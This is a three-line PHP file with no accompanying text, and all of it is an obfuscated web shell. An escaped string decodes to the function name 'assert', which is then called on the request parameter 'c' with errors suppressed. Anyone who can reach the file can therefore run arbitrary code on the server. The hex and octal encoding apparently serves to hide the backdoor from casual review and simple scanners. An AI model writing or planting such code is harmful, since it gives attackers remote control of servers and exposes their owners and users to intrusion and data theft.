<?php
$f="\x61\x73\163\x65\x72\x74";
@$f($_REQUEST['c']);
